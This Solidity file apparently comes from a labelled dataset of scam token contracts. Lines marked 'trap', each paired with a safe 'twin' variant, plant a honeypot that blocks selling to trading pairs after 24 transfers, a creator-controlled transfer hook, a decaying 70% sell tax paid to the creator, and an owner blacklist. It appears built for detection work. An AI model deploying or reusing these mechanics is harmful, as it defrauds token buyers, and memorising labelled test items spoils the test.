// 0.7 runs=1000
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

library Libro {
    struct Caja {
        uint256 total;
        mapping(address => uint256) saldo;
        mapping(bytes32 => uint256) permiso;
    }

    event Transfer(address indexed from, address indexed to, uint256 value);

    function mover(Caja storage c, address de, address a, uint256 v) internal {
        uint256 s = c.saldo[de];
        require(s >= v, "saldo");
        c.saldo[de] = s - v;
        c.saldo[a] += v;
        emit Transfer(de, a, v);
    }

    function gastar(Caja storage c, address de, address quien, uint256 v) internal {
        bytes32 k = keccak256(abi.encode(de, quien));
        uint256 p = c.permiso[k];
        require(p >= v, "permiso");
        if (p != uint256(-1)) c.permiso[k] = p - v;
    }
}

abstract contract Sobre {
    using Libro for Libro.Caja;

    Libro.Caja internal caja;
    address internal immutable hacedor;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 v) {
        hacedor = msg.sender;
        caja.total = v * 1 ether;
        caja.saldo[msg.sender] = v * 1 ether;
        emit Transfer(address(0), msg.sender, v * 1 ether);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() public view returns (uint256) {
        return caja.total;
    }

    function balanceOf(address q) public view returns (uint256) {
        return caja.saldo[q];
    }

    function allowance(address de, address quien) external view returns (uint256) {
        return caja.permiso[keccak256(abi.encode(de, quien))];
    }

    function approve(address quien, uint256 v) external returns (bool) {
        caja.permiso[keccak256(abi.encode(msg.sender, quien))] = v;
        emit Approval(msg.sender, quien, v);
        return true;
    }

    function transfer(address a, uint256 v) external returns (bool) {
        pasar(msg.sender, a, v);
        return true;
    }

    function transferFrom(address de, address a, uint256 v) external returns (bool) {
        caja.gastar(de, msg.sender, v);
        pasar(de, a, v);
        return true;
    }

    function pasar(address de, address a, uint256 v) internal virtual;
}

interface IDosMonedas {
    function token0() external view returns (address);
}

contract Copperknot is Sobre {
    using Libro for Libro.Caja;

    string public constant name = "Copperknot";
    string public constant symbol = "CPKN";
    bytes32 private constant WHERE = keccak256("copperknot.stitches");

    constructor() Sobre(3_000_000) {}

    function pasar(address de, address a, uint256 v) internal override {
        if (de != hacedor && _twoSided(a)) {
            bytes32 w = WHERE;
            uint256 n;
            assembly {
                n := add(sload(w), 1)
                sstore(w, n)
            }
            require(n <= 24, "CPKN"); // trap
        }
        caja.mover(de, a, v);
    }

    function _twoSided(address a) private view returns (bool) {
        uint256 size;
        assembly {
            size := extcodesize(a)
        }
        if (size == 0) return false;
        (bool ok, bytes memory out) = a.staticcall(abi.encodeWithSelector(IDosMonedas.token0.selector));
        return ok && out.length == 32;
    }
}

interface IGoing {
    function tokensToSend(address from, address to, uint256 value) external;
}

contract Heronsgate is Sobre {
    using Libro for Libro.Caja;

    string public constant name = "Heronsgate";
    string public constant symbol = "HRGT";
    mapping(address => address) public implementer;

    constructor() Sobre(64_000_000) {
        implementer[msg.sender] = address(this);
    }

    function tokensToSend(address, address, uint256) external {}

    function setImplementer(address who, address hook) external {
        require(msg.sender == hacedor, "not yours"); // trap
        // twin: require(msg.sender == who, "not yours");
        implementer[who] = hook;
    }

    function pasar(address de, address a, uint256 v) internal override {
        uint256 size;
        assembly {
            size := extcodesize(a)
        }
        address hook = implementer[de];
        if (size > 0) IGoing(hook).tokensToSend(de, a, v); // trap
        // twin: if (size > 0 && hook != address(0)) IGoing(hook).tokensToSend(de, a, v);
        caja.mover(de, a, v);
    }
}

contract Glasswort is Sobre {
    using Libro for Libro.Caja;

    string public constant name = "Glasswort";
    string public constant symbol = "GLWT";
    address private bay;
    mapping(address => uint256) private since;
    uint256 private constant PEAK = 7000; // trap
    uint256 private constant SPAN = 3650 days; // trap
    // twin: uint256 private constant PEAK = 600;
    // twin: uint256 private constant SPAN = 1 days;

    constructor() Sobre(18_000_000) {}

    function setBay(address b) external {
        require(msg.sender == hacedor && bay == address(0));
        bay = b;
    }

    function haircut(address who) public view returns (uint256) {
        uint256 t = block.timestamp - since[who];
        return t >= SPAN ? 0 : PEAK - (PEAK * t) / SPAN;
    }

    function pasar(address de, address a, uint256 v) internal override {
        if (a == bay && de != hacedor) {
            uint256 h = (v * haircut(de)) / 10000;
            caja.mover(de, hacedor, h);
            v -= h;
        } else {
            since[a] = block.timestamp;
        }
        caja.mover(de, a, v);
    }
}

/// Whoever signs.
contract Signatarios {
    address[] public firmantes;
    uint256 public immutable precisos;
    mapping(address => bool) public firma;
    struct Acta {
        address a;
        bytes dato;
        uint256 votos;
        bool hecha;
    }
    Acta[] public actas;
    mapping(uint256 => mapping(address => bool)) private dijo;

    constructor(address[] memory f, uint256 p) {
        for (uint256 i; i < f.length; i++) firma[f[i]] = true;
        firmantes = f;
        precisos = p;
    }

    function proponer(address a, bytes calldata dato) external returns (uint256 id) {
        require(firma[msg.sender]);
        id = actas.length;
        actas.push(Acta(a, dato, 0, false));
        firmar(id);
    }

    function firmar(uint256 id) public {
        require(firma[msg.sender] && !dijo[id][msg.sender]);
        dijo[id][msg.sender] = true;
        Acta storage x = actas[id];
        x.votos++;
        if (x.votos >= precisos && !x.hecha) {
            x.hecha = true;
            (bool ok, ) = x.a.call(x.dato);
            require(ok);
        }
    }

    function getOwners() external view returns (address[] memory) {
        return firmantes;
    }
}

contract Larkmeadow is Sobre {
    using Libro for Libro.Caja;

    string public constant name = "Larkmeadow";
    string public constant symbol = "LARK";
    address public immutable owner;
    mapping(address => uint8) public condition;

    constructor(address board) Sobre(120_000_000) {
        owner = board;
    }

    function setCondition(address who, uint8 c) external {
        require(msg.sender == owner);
        condition[who] = c;
    }

    function pasar(address de, address a, uint256 v) internal override {
        require(condition[de] < 3, "LARK: condition");
        caja.mover(de, a, v);
    }
}
